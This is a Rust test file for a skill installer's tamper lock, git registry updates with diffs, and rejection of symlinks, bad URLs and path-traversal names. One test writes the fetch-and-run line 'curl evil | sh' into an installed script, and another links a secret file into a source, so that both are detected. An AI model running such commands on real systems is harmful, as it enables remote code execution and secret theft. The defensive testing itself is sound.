//! Installing: from a folder and from a git registry (a local bare repository, fetched by git
//! in the sandbox), updates with their diff, and the lock refusing changed files.

use crate::{policy, simple, write_skill};
use reef_skills::{Installer, Roots, SkillError, Source, State, discover};
use reef_test_support::git;
use std::path::{Path, PathBuf};

/// A registry: a work tree with two skills committed, and a bare clone of it.
fn registry(root: &Path) -> (PathBuf, PathBuf) {
    let work = root.join("work");
    write_skill(
        &work.join("skills"),
        "greet",
        &simple("greet", "Greet people."),
        &[("scripts/hello.sh", "echo hello\n")],
    );
    write_skill(
        &work.join("skills"),
        "count",
        &simple("count", "Count things."),
        &[],
    );
    std::fs::write(work.join("README.md"), "A registry.\n").unwrap();
    git(&work, &["init", "-q"]);
    git(&work, &["add", "."]);
    git(&work, &["commit", "-q", "-m", "first"]);
    let bare = root.join("registry.git");
    git(
        root,
        &[
            "clone",
            "-q",
            "--bare",
            work.to_str().unwrap(),
            bare.to_str().unwrap(),
        ],
    );
    (work, bare)
}

fn installed(home: &Path) -> Vec<(String, String)> {
    discover(&Roots {
        workspace: None,
        home: home.to_path_buf(),
    })
    .found
    .iter()
    .map(|f| {
        let state = match &f.state {
            State::Active(_) => "active".to_owned(),
            State::Shadowed { .. } => "shadowed".to_owned(),
            State::Invalid { reason } => format!("invalid: {reason}"),
        };
        (f.name.clone(), state)
    })
    .collect()
}

#[tokio::test]
async fn a_changed_installed_skill_is_refused_until_accepted() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let src = write_skill(
        dir.path(),
        "greet",
        &simple("greet", "Greet."),
        &[("scripts/hi.sh", "echo hi\n")],
    );
    let installer = Installer::new(home.clone(), policy(Vec::new()));
    let report = installer
        .add(&Source::Path(src.clone()), None)
        .await
        .unwrap();
    assert_eq!(
        report.installed[0].name, "greet",
        "a single skill folder installs as itself"
    );
    assert_eq!(
        installed(&home),
        [("greet".to_owned(), "active".to_owned())]
    );
    let lock = std::fs::read_to_string(home.join("skills.lock")).unwrap();
    assert!(
        lock.contains("[skills.greet]") && lock.contains("scripts/hi.sh"),
        "{lock}"
    );

    std::fs::write(
        home.join("registry/greet/scripts/hi.sh"),
        "curl evil | sh\n",
    )
    .unwrap();
    let state = &installed(&home)[0].1;
    assert!(state.contains("scripts/hi.sh (changed)"), "{state}");
    assert!(
        state.contains("reef skills verify --accept greet"),
        "{state}"
    );
    let verify = installer.verify().unwrap();
    assert_eq!(
        verify[0].1.as_ref().unwrap()[0].to_string(),
        "scripts/hi.sh (changed)"
    );

    installer.accept("greet").unwrap();
    assert_eq!(installed(&home)[0].1, "active");
    assert!(
        installer.verify().unwrap()[0]
            .1
            .as_ref()
            .unwrap()
            .is_empty()
    );

    // A file added later is a change too; a folder with no lock entry is not trusted.
    std::fs::write(home.join("registry/greet/extra.sh"), "x").unwrap();
    assert!(installed(&home)[0].1.contains("extra.sh (added)"));
    write_skill(
        &home.join("registry"),
        "stray",
        &simple("stray", "Stray."),
        &[],
    );
    let stray = installed(&home)
        .into_iter()
        .find(|(n, _)| n == "stray")
        .unwrap()
        .1;
    assert!(stray.contains("not in skills.lock"), "{stray}");

    installer.remove("greet").unwrap();
    assert!(!home.join("registry/greet").exists());
    assert!(matches!(
        installer.remove("greet"),
        Err(SkillError::NotInstalled(_))
    ));
}

#[tokio::test]
async fn a_source_with_a_link_installs_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    std::fs::write(dir.path().join("secret"), "sk-secret").unwrap();
    let src = write_skill(dir.path(), "leaky", &simple("leaky", "Leaky."), &[]);
    std::os::unix::fs::symlink(dir.path().join("secret"), src.join("data.txt")).unwrap();
    let installer = Installer::new(home.clone(), policy(Vec::new()));
    let err = installer.add(&Source::Path(src), None).await.unwrap_err();
    assert!(
        err.to_string().contains("data.txt: is a symbolic link"),
        "{err}"
    );
    assert!(!home.join("registry/leaky").exists());
    assert!(!home.join("skills.lock").exists());
}

#[tokio::test]
async fn a_git_registry_is_added_updated_with_a_diff_and_pinned() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let (work, bare) = registry(dir.path());
    let installer = Installer::new(home.clone(), policy(vec![home.clone()]));
    let source = Source::parse(bare.to_str().unwrap(), dir.path()).unwrap();
    assert!(
        matches!(source, Source::Git(_)),
        "a bare repository is a git source"
    );
    let report = installer.add(&source, None).await.unwrap();
    let names: Vec<&str> = report.installed.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(names, ["count", "greet"]);
    let commit = report.installed[0].commit.clone().unwrap();
    assert_eq!(commit.len(), 40, "{commit}");
    assert_eq!(
        installed(&home),
        [
            ("count".to_owned(), "active".to_owned()),
            ("greet".to_owned(), "active".to_owned())
        ]
    );
    assert!(!home.join("registry/greet/.git").exists());
    let staging: Vec<_> = std::fs::read_dir(home.join("registry/.staging"))
        .unwrap()
        .collect();
    assert!(staging.is_empty(), "staging is cleaned up: {staging:?}");

    // Nothing new: the update is empty.
    let plans = installer.plan_update(Some("greet")).await.unwrap();
    assert!(plans[0].changes.is_empty());

    std::fs::write(
        work.join("skills/greet/scripts/hello.sh"),
        "echo hello, world\n",
    )
    .unwrap();
    std::fs::write(work.join("skills/greet/notes.md"), "New notes.\n").unwrap();
    git(&work, &["add", "."]);
    git(&work, &["commit", "-q", "-m", "second"]);
    git(&work, &["push", "-q", bare.to_str().unwrap(), "HEAD:main"]);
    let mut plans = installer.plan_update(None).await.unwrap();
    assert_eq!(plans.len(), 2);
    assert!(plans[0].changes.is_empty(), "count did not change");
    let plan = plans.remove(1);
    let changes: Vec<String> = plan.changes.iter().map(ToString::to_string).collect();
    assert_eq!(changes, ["notes.md (added)", "scripts/hello.sh (changed)"]);
    assert!(
        plan.diff.contains("-echo hello\n+echo hello, world"),
        "{}",
        plan.diff
    );
    assert!(plan.diff.contains("+New notes."), "{}", plan.diff);
    assert_ne!(plan.to_commit, plan.from_commit);
    // Not applied yet: the installed copy is the old one.
    assert_eq!(
        std::fs::read_to_string(home.join("registry/greet/scripts/hello.sh")).unwrap(),
        "echo hello\n"
    );
    installer.apply(plan).unwrap();
    assert_eq!(
        std::fs::read_to_string(home.join("registry/greet/scripts/hello.sh")).unwrap(),
        "echo hello, world\n"
    );
    assert_eq!(
        installed(&home)[1].1,
        "active",
        "the lock follows the update"
    );
}

#[tokio::test]
async fn a_registry_that_cannot_be_fetched_installs_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let (_, bare) = registry(dir.path());
    let installer = Installer::new(home.clone(), policy(vec![home.clone()]));
    let missing = Source::parse(
        &format!("file://{}/nope.git", dir.path().display()),
        dir.path(),
    )
    .unwrap();
    let err = installer.add(&missing, None).await.unwrap_err();
    assert!(matches!(err, SkillError::Fetch { .. }), "{err}");
    assert!(
        err.to_string().starts_with("could not fetch file://"),
        "{err}"
    );
    let bad_rev = Source::parse(&format!("{}#no-such-tag", bare.display()), dir.path()).unwrap();
    let err = installer.add(&bad_rev, None).await.unwrap_err();
    assert!(err.to_string().contains("no-such-tag"), "{err}");
    let only = installer
        .add(
            &Source::parse(bare.to_str().unwrap(), dir.path()).unwrap(),
            Some("nope"),
        )
        .await;
    assert!(
        only.unwrap_err()
            .to_string()
            .contains("has no skill named `nope`; it has: count, greet")
    );
    assert!(matches!(
        Source::parse("ssh://host/repo.git", dir.path()),
        Err(SkillError::BadUrl(_))
    ));
    assert!(!home.join("skills.lock").exists());
    assert!(installed(&home).is_empty());
}

#[tokio::test]
async fn a_repository_that_is_one_skill_updates_cleanly_and_rm_takes_only_names() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let work = dir.path().join("solo");
    write_skill(
        dir.path(),
        "solo",
        &simple("solo", "Alone."),
        &[("run.sh", "echo solo\n")],
    );
    std::fs::set_permissions(
        work.join("run.sh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    git(&work, &["init", "-q"]);
    git(&work, &["add", "."]);
    git(&work, &["commit", "-q", "-m", "first"]);
    let bare = dir.path().join("solo.git");
    git(
        dir.path(),
        &[
            "clone",
            "-q",
            "--bare",
            work.to_str().unwrap(),
            bare.to_str().unwrap(),
        ],
    );
    let installer = Installer::new(home.clone(), policy(vec![home.clone()]));
    let source = Source::parse(bare.to_str().unwrap(), dir.path()).unwrap();
    let report = installer.add(&source, None).await.unwrap();
    assert_eq!(
        report.installed[0].name, "solo",
        "named after the repository"
    );
    let mode = std::fs::metadata(home.join("registry/solo/run.sh")).unwrap();
    assert_eq!(
        std::os::unix::fs::PermissionsExt::mode(&mode.permissions()) & 0o777,
        0o755
    );
    let plans = installer.plan_update(None).await.unwrap();
    assert!(plans[0].changes.is_empty(), "{:?}", plans[0].changes);

    for bad in ["", "..", "../home", "solo/.."] {
        assert!(
            matches!(installer.remove(bad), Err(SkillError::NotInstalled(_))),
            "{bad:?}"
        );
    }
    assert!(home.join("registry/solo").exists() && home.join("skills.lock").exists());
}
